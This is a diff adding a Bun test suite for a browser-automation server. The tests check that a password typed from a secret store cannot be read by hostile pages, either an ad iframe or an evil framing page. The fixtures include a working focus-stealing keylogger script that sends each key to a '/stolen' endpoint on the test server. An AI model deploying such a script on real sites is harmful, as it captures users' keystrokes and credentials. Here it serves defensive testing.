@@ -1,0 +1,101 @@
+// A secret typed by write, attacked as a hostile page would: a frame that steals the focus gets no
+// keystroke of it, an about:blank frame of another origin is refused, an allowed https URL does not
+// open http, scripts around the write give nothing back, and no read brings a piece of it back.
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { type Fixture, html, serveFixture } from "../support/fixtures.ts";
+import { endAll, logLines, startServer, type TestServer } from "../support/server.ts";
+
+const W = "secrets-attacks";
+const PASSWORD = "Zq7-secret-Kp4wX";
+const stolen: string[] = [];
+const bodies: string[] = [];
+let server: TestServer;
+let site: Fixture;
+
+// The bound host's login page: the field reports only how long its value is, in the title.
+const LOGIN = `<title>Login</title><label>Password <input id=pw type=password></label>
+<script>pw.addEventListener("input", () => { document.title = "len " + pw.value.length; });</script>`;
+// A focus thief: takes the focus back whenever its window loses it, and reports every key it gets.
+const THIEF = `<input id=steal autofocus><script>
+const grab = () => setTimeout(() => { window.focus(); steal.focus(); }, 0);
+window.addEventListener("blur", grab);
+document.addEventListener("focusout", grab);
+setInterval(() => { if (document.activeElement !== steal || !document.hasFocus()) { window.focus(); steal.focus(); } }, 2);
+document.addEventListener("keydown", (e) => fetch("/stolen?k=" + encodeURIComponent(e.key)));
+</script>`;
+
+async function call(path: string, body: unknown = {}) {
+  const res = await server.call("POST", path, body, W);
+  bodies.push(JSON.stringify(res.body));
+  return res;
+}
+
+beforeAll(async () => {
+  site = serveFixture({
+    "/login": () => html(LOGIN),
+    "/ad-login": () =>
+      html(`${LOGIN}<iframe src="${site.url("/thief", "ads.example.test")}" width=300 height=80></iframe>`),
+    "/thief": () => html(THIEF),
+    "/evil-top": () =>
+      html(
+        `<title>Evil</title>${THIEF}<iframe id=f src="${site.url("/login")}" width=400 height=120></iframe>`,
+      ),
+    "/stolen": (req) => {
+      stolen.push(new URL(req.url).searchParams.get("k") ?? "");
+      return new Response("ok");
+    },
+  });
+  server = await startServer({
+    dataDir: false,
+    configure: (c) => {
+      c.secrets.entries = {
+        app: {
+          description: "the fixture app's password",
+          allowed_urls: ["app.example.test"],
+          keys: { password: { value: PASSWORD } },
+        },
+      };
+    },
+  });
+});
+
+afterAll(async () => {
+  await endAll(server, [W]);
+  await server.close();
+  site.stop();
+  const everything = [...bodies, ...logLines].join("\n");
+  expect(everything).not.toContain(PASSWORD);
+});
+
+describe("focus theft", () => {
+  test("an ad iframe on the bound host's page that steals the focus gets no keystroke", async () => {
+    stolen.length = 0;
+    expect((await call("/browser/navigate", { url: site.url("/ad-login") })).status).toBe(200);
+    await Bun.sleep(300);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    expect(w.body.title).toBe(`len ${PASSWORD.length}`);
+    await Bun.sleep(300);
+    expect(stolen).toEqual([]);
+  });
+
+  test("a hostile top page around a bound-host frame gets no keystroke", async () => {
+    stolen.length = 0;
+    expect(
+      (await call("/browser/navigate", { url: site.url("/evil-top", "evil.example.test") })).status,
+    ).toBe(200);
+    expect((await call("/browser/switch", { frame: { css: "#f" } })).status).toBe(200);
+    await Bun.sleep(300);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    expect(w.body.title).toBe(`len ${PASSWORD.length}`);
+    await Bun.sleep(300);
+    expect(stolen).toEqual([]);
+  });
+});
